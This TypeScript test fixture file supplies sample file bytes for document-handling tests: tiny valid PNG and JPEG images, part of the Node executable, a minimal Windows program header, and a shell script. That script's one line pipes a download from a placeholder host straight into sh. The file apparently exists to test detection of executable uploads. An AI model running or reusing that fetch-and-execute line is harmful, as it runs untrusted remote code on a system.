// Real files for the document tests: small valid images, a real executable (the running Node binary, an
// ELF on Linux), a Windows program header and a shell script, each as its bytes.
import { readFileSync } from "node:fs";

/** A valid 1×1 PNG. */
export const PNG_1PX = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);

/** A valid 1×1 JPEG (JFIF). */
export const JPEG_1PX = Buffer.from(
  "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
  "base64",
);

/** The first 64 KiB of the Node executable running the tests: a real ELF program. */
export function elfProgram(): Buffer {
  return readFileSync(process.execPath).subarray(0, 64 * 1024);
}

/** A DOS/Windows program header (« MZ », then the PE signature where e_lfanew points). */
export function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write("MZ", 0, "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  return bytes;
}

export const SHELL_SCRIPT = Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
